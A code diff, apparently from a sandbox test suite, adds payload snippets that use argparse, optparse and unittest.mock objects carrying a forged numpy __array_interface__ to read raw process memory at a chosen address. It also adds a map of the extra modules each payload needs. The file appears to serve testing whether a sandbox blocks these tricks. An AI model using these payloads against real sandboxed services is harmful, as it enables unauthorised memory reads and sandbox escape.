@@ -39,6 +39,9 @@ PAYLOADS = {
     "A.m.__dict__['__array_interface__'] = IFACE\nr = np.array(A().m)",
     "simple-namespace": "import sys\nNS = type(sys.implementation)\n"
     "r = np.array(NS(__array_interface__=IFACE))",
+    "argparse-namespace": "import argparse\nr = np.array(argparse.Namespace(__array_interface__=IFACE))",
+    "optparse-values": "import optparse\nr = np.array(optparse.Values({'__array_interface__': IFACE}))",
+    "mock-configured": "import unittest.mock\nr = np.array(unittest.mock.Mock(__array_interface__=IFACE))",
     "nested-in-list": "class A:\n    __array_interface__ = IFACE\nr = np.array([A()])",
     "ndarray-operand": f"class A:\n    __array_interface__ = IFACE\n"
     f"r = np.zeros({N}, dtype=np.uint8) + A()",
@@ -52,3 +55,11 @@ def source_for(name, address):
     iface = f"{{'typestr': '|u1', 'shape': ({N},), 'data': ({address}, True), 'version': 3}}"
     body = PAYLOADS[name]
     return f"import numpy as np\nIFACE = {iface}\n{body}\nr.tobytes()"
+
+
+#: Payloads that need another grant besides numpy.
+EXTRA_IMPORTS = {
+    "argparse-namespace": "argparse",
+    "optparse-values": "optparse",
+    "mock-configured": "unittest.mock",
+}
